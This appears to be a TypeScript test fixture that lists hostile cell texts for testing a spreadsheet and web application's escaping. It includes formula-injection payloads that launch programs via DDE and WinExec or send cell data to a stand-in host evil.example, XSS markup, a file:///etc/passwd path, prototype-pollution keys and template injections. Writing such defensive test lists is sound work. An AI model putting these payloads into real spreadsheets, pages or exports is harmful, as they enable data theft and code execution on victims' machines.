/**
 * Texts that people, or files from elsewhere, put into cells and that must stay what they are: never a formula, never
 * markup, never a key of an object. Building blocks times payloads, always the same and always in the same order.
 */
export interface Hostile {
  readonly group: string;
  readonly text: string;
}

/** What makes a spreadsheet of some language read a text as a formula; the wide ones are those of East Asian Excel. */
const starters = ["=", "+", "-", "@", "＝", "＋", "－", "＠"];
/** What may stand before a starter and be dropped on the way: white space, invisible and bidirectional marks. */
const leads = {
  space: " ",
  "three spaces": "   ",
  tab: "\t",
  "carriage return": "\r",
  "line feed": "\n",
  "carriage return, line feed": "\r\n",
  "no-break space": "\u00a0",
  "ideographic space": "\u3000",
  "zero width space": "\u200b",
  "zero width joiner": "\u200d",
  "byte order mark": "\ufeff",
  "right-to-left mark": "\u200f",
  "right-to-left override": "\u202e",
  "first strong isolate": "\u2068",
  null: "\0",
  "start of heading": "\u0001",
  "unit separator": "\u001f",
  "next line": "\u0085",
  "line separator": "\u2028",
};
/** What comes behind a starter: programs, addresses, calculation. */
const payloads = ["1+1", "SUM(1,1)", "A1", "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example/?"&A1,"click")'];
const formulas = [
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=WEBSERVICE("https://evil.example/"&A2)',
  '=IMPORTXML(CONCAT("https://evil.example/",A2:E9),"//a")',
  '=IMAGE("https://evil.example/pixel.png")',
  "='file://evil.example/share/[book.xlsx]Sheet1'!A1",
  '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"https://evil.example/x","x",0,0)',
  '=EXEC("calc")',
  '=REGISTER.ID("kernel32","WinExec")',
  "=PLAN.BOARD(A1,B1,C1)",
  "=",
  "==",
  "=-",
  "+",
  "-",
  "--",
  "@",
  "－－1",
  "+-*/1",
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "%0A=1+1",
  "{=1+1}",
  ";=1+1",
  ",=1+1",
  "|=1+1",
  "（=1+1）",
];
/** What would leave a text, a sheet name or a criterion inside a formula of ours. */
const breakOuts = [
  '"',
  '""',
  '"""',
  '"&A1&"',
  '")+1+("',
  '"),1)+HYPERLINK("https://evil.example","x")&("',
  "'",
  "''",
  "'!A1",
  "'!A1+'",
  "'=1+1",
  "''=1+1",
  "it's",
  "’tis",
  "O'Brien & Sons",
  "“quoted”",
  "\\",
  '\\"',
  "`",
  "a&b",
  "a,b;c",
  "(a",
  "a)",
  "{1,2}",
];
/** What means something in a reference to a table, and in sheet names. */
const references = [
  "[",
  "]",
  "[]",
  "]]",
  "[#All]",
  "#",
  "#This Row",
  "@this",
  "a[b]c",
  "a]c",
  "'[",
  "'']",
  "[[a]:[b]]",
  "Sales[Quantity]",
  "A1",
  "R1C1",
  "Sheet1!A1",
  "$B$2",
  "A:A",
  "1:1",
  "a:b",
  "a/b",
  "a\\b",
  "a?b",
  "a*b",
  "History",
  "&A &F &P",
  "&[File]",
  "Print_Area",
  "_xlnm.Print_Area",
];
/** What SUMIFS reads as more than a text. */
const criteria = [
  "*",
  "**",
  "?",
  "~",
  "~*",
  "~~",
  "a*",
  "?b",
  "c~",
  "<>",
  "<",
  ">",
  ">=",
  "<=5",
  "<>North",
  ">a",
  "=North",
  "North",
  "#N/A",
  "#REF!",
  "#NAME?",
  "#DIV/0!",
];
/** Markup, addresses that run, and ways out of an attribute, a script or a style. */
const markup = [
  "<script>window.__hacked=1</script>",
  "</script><script>window.__hacked=1</script>",
  "<img src=x onerror=window.__hacked=1>",
  '"><img src=x onerror=window.__hacked=1>',
  "'><svg onload=window.__hacked=1>",
  "<svg/onload=window.__hacked=1>",
  '<a href="javascript:window.__hacked=1">click</a>',
  "<iframe srcdoc='<script>parent.__hacked=1</script>'></iframe>",
  "<style>*{display:none}</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content=0;url=https://evil.example>",
  "<math><mtext><img src=x onerror=window.__hacked=1>",
  "<b>bold</b>",
  "<!--",
  "-->",
  "<![CDATA[",
  "]]>",
  "<?xml version='1.0'?>",
  "&lt;script&gt;",
  "&#60;b&#62;",
  "&amp;",
  '" onmouseover="window.__hacked=1',
  "' autofocus onfocus='window.__hacked=1",
  "javascript:window.__hacked=1",
  "data:text/html,<script>window.__hacked=1</script>",
  "vbscript:msgbox(1)",
  "file:///etc/passwd",
  "\\\\evil.example\\share",
  "https://evil.example/",
  "expression(window.__hacked=1)",
  "url(https://evil.example/x)",
];
/** What our own sentences put values into, and what other templates do. */
const templates = [
  "{name}",
  "{names}",
  "{dimension}",
  "{plan} of {year}",
  "{n|a|b}",
  "{toString}",
  "{{constructor}}",
  "${window.__hacked=1}",
  "#{1}",
  "%s %d",
  "$&",
  "$1$2",
  "$$",
  "$`",
  "$'",
];
/** Keys every object has already. */
const keys = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "valueOf",
  "hasOwnProperty",
  "__defineGetter__",
  "undefined",
  "null",
  "NaN",
  "[object Object]",
];
/** Texts that look like values of some other kind. */
const values = [
  "0",
  "007",
  "1E5",
  "1e2",
  "100",
  "-1",
  "+1",
  "1,000",
  "50%",
  "$5",
  "¥5",
  "１２",
  "٣",
  "½",
  "1/2",
  "1-2",
  "2026-01-02",
  "3月",
  "３月",
  "MAR1",
  "12:30",
  "TRUE",
  "false",
  " true ",
  "ＴＲＵＥ",
  "()",
  "(5)",
];
/** Text that machines trip over: halves of characters, control characters, length, direction. */
const odd = [
  "\ud83d\ude97 car",
  "\ud800",
  "\udc00x",
  "a\ud800b",
  "a\tb",
  "a\nb",
  "a\r\nb",
  "a\u0007b",
  "a\u0000b",
  "a\u200bb",
  "\u202egnp.exe",
  "é",
  "e\u0301",
  "İstanbul",
  "ß",
  "ﬁ",
  "北方出租",
  "日本語テキスト",
  "‮العربية",
  "\u2028",
  "x\uffff",
  `x${"y".repeat(254)}`,
  `=${"z".repeat(255)}`,
  `"${'"'.repeat(200)}`,
  `long*${"w".repeat(300)}`,
  `=CONCAT("${"v".repeat(8_200)}")`,
  `u${"t".repeat(32_700)}`,
];

const group = (name: string, texts: readonly string[]): Hostile[] => texts.map((text) => ({ group: name, text }));

const all: readonly Hostile[] = [
  ...group(
    "formula",
    starters.flatMap((starter) => payloads.map((payload) => starter + payload)),
  ),
  ...group(
    "hidden formula",
    Object.values(leads).flatMap((lead, index) => {
      const starter = starters[index % starters.length] ?? "=";
      return [`${lead}=1+1`, `${lead}${starter}EXEC("calc")`, `${lead}text`];
    }),
  ),
  ...group("formula", formulas),
  ...group("break out", breakOuts),
  ...group("reference", references),
  ...group("criterion", criteria),
  ...group("markup", markup),
  ...group("template", templates),
  ...group("key", keys),
  ...group("value", values),
  ...group("odd", odd),
];

/** Every hostile text once. */
export const hostile: readonly Hostile[] = [...new Map(all.map((one) => [one.text, one])).values()];

export const hostileTexts: readonly string[] = hostile.map(({ text }) => text);

/** A text for the title of a test or a message: visible, and not endless. */
export function printable(text: string): string {
  const shown = JSON.stringify(text);
  return shown.length > 60 ? `${shown.slice(0, 50)}… (${text.length})` : shown;
}
